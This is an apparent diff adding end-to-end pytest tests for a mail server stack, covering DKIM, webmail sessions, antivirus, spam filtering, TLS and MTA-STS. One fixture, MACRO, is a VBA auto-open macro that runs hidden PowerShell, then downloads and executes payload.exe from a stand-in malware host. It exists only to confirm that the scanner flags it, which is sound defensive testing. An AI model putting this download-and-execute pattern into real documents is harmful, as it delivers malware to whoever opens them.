@@ -1,0 +1,138 @@
+"""A message's way through the stack, and what must not get through."""
+
+from __future__ import annotations
+
+import json
+import smtplib
+import socket
+import ssl
+import uuid
+from functools import partial
+from http.client import HTTPConnection, HTTPSConnection
+
+import pytest
+
+from tests.e2e.guessers import untrusting
+from tests.e2e.mail import ALICE, BOB, found, message, submit, until
+from tests.e2e.stack import DOMAIN, HERE4, HOST, Stack
+
+pytestmark = [pytest.mark.e2e, pytest.mark.timeout(600)]
+
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+# rspamd's test pattern for "add header" (enable_test_patterns): spam, but not enough of it to be refused.
+SPAM = "YJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
+# VBA as text, with everything that a macro should not do: olevba reads sources as well as documents.
+MACRO = (
+    b"""Attribute VB_Name = "ThisDocument"
+Sub AutoOpen()
+    Dim shell As Object
+    Set shell = CreateObject("WScript.Shell")
+    shell.Run "powershell -WindowStyle Hidden -EncodedCommand AAAA", 0, False
+    URLDownloadToFile 0, "http://malware.example.org/payload.exe", Environ("TEMP") & "\\payload.exe", 0, 0
+    Shell Environ("TEMP") & "\\payload.exe", vbHide
+End Sub
+"""
+    + b"' padding, since short parts are not looked at\r\n" * 20
+)
+
+
+def test_a_message_arrives_signed_and_is_found_by_a_word_in_it(stack: Stack, passwords: dict[str, str]):
+    word = f"zebra{uuid.uuid4().hex[:8]}"
+    sent = message(f"The {word} crosses the road.\n")
+    submit(passwords[ALICE], sent)
+
+    raw = found(passwords[BOB], "INBOX", "SUBJECT", sent["Subject"])
+
+    assert found(passwords[BOB], "INBOX", "TEXT", word) == raw  # full-text search
+    [record] = [row for row in stack.setup("dns", DOMAIN).splitlines() if row.startswith("mail._domainkey")]
+    text = "".join(record.partition("TXT\t")[2].split('"')[1::2])
+    (stack.folder / "signed.eml").write_bytes(raw)
+    check = f"import dkim; print(dkim.verify(open('/ca/signed.eml','rb').read(), dnsfunc=lambda *a, **k: {text.encode()!r}))"
+    assert stack.compose("exec", "-T", "lab", "python3", "-c", check).strip() == "True"
+
+
+def test_sogo_lists_the_message_in_the_inbox(stack: Stack, passwords: dict[str, str]):
+    sent = message("for the webmail\n")
+    submit(passwords[ALICE], sent)
+    found(passwords[BOB], "INBOX", "SUBJECT", sent["Subject"])
+    web = HTTPSConnection(HERE4, 443, context=untrusting(), timeout=60)
+    host = {"Host": HOST, "Content-Type": "application/json"}
+    web.request("POST", "/SOGo/connect", json.dumps({"userName": BOB, "password": passwords[BOB]}), host)
+    answer = web.getresponse()
+    answer.read()
+    cookies = answer.headers.get_all("Set-Cookie") or []
+    session = [cookie for cookie in cookies if cookie.startswith("0xHIGHFLYxSOGo=")]
+    assert answer.status == 200
+    assert session
+    assert all(f in session[0].lower() for f in ("secure", "httponly", "samesite=lax"))
+    token = next(cookie for cookie in cookies if cookie.startswith("XSRF-TOKEN="))
+    assert "secure" in token.lower()
+    sent_back = "; ".join(cookie.partition(";")[0] for cookie in cookies)
+    header = {**host, "Cookie": sent_back, "X-XSRF-TOKEN": token.partition("=")[2].partition(";")[0]}
+    web.request("POST", f"/SOGo/so/{BOB}/Mail/0/folderINBOX/view", "{}", header)
+    listed = web.getresponse()
+
+    assert listed.status == 200
+    assert sent["Subject"] in listed.read().decode()
+
+
+def test_a_virus_is_refused(passwords: dict[str, str]):
+    with pytest.raises(smtplib.SMTPDataError) as refused:
+        submit(passwords[ALICE], message("see the attachment\n", attached=("game.com", EICAR)))
+    assert refused.value.smtp_code == 554
+    assert b"Eicar" in refused.value.smtp_error
+
+
+def test_macros_are_flagged(stack: Stack, passwords: dict[str, str]):
+    sent = message("the invoice\n", attached=("invoice.doc", MACRO))
+    submit(passwords[ALICE], sent)
+    until(lambda: "OLETOOLS" in stack.compose("logs", "--no-color", "rspamd"))
+
+
+def test_spam_goes_to_junk_and_its_move_is_learned(stack: Stack, passwords: dict[str, str]):
+    sent = message(f"{SPAM}\n")
+    submit(passwords[ALICE], sent)
+    raw = found(passwords[BOB], "Junk", "SUBJECT", sent["Subject"])
+    assert b"X-Spam: Yes" in raw
+
+
+def test_the_certificate_of_the_test_ca_is_served_on_every_port(stack: Stack):
+    ask = (
+        "import ssl, urllib.request as u; c = ssl._create_unverified_context();"
+        "print(u.urlopen('https://localhost:15000/roots/0', context=c).read().decode())"
+    )
+    authority = stack.folder / "issued.pem"
+    authority.write_text(stack.compose("exec", "-T", "lab", "python3", "-c", ask))
+
+    def verified(port: int) -> bool:
+        context = ssl.create_default_context(cafile=str(authority))
+        try:
+            with (
+                socket.create_connection((HERE4, port), 10) as raw,
+                context.wrap_socket(raw, server_hostname=HOST),
+            ):
+                return True
+        except OSError:
+            return False
+
+    for port in (443, 993, 465):  # who serves it looks for a new one once a minute
+        until(partial(verified, port), 180)
+
+
+def test_the_web_server_sends_http_to_https_and_serves_the_policy(stack: Stack):
+    plain = HTTPConnection(HERE4, 80, timeout=10)
+    plain.request("GET", "/SOGo/?a=b", headers={"Host": HOST})
+    answer = plain.getresponse()
+    assert (answer.status, answer.headers["Location"]) == (301, f"https://{HOST}/SOGo/?a=b")
+    web = HTTPSConnection(HERE4, 443, context=untrusting(), timeout=10)
+    web.request("GET", "/.well-known/mta-sts.txt", headers={"Host": f"mta-sts.{DOMAIN}"})
+    policy = web.getresponse()
+    assert policy.status == 200
+    assert f"mx: {HOST}" in policy.read().decode()
+    assert "max-age" in policy.headers["Strict-Transport-Security"]
+
+
+def test_the_resolver_of_policies_answers_postfix(stack: Stack):
+    asked = stack.asked("postfix", "postmap", "-q", "nowhere.example", "socketmap:inet:mta-sts:8461:postfix")
+    assert asked.returncode == 1  # it knows of none, and said so: an error would be told
+    assert "error" not in asked.stderr.lower()
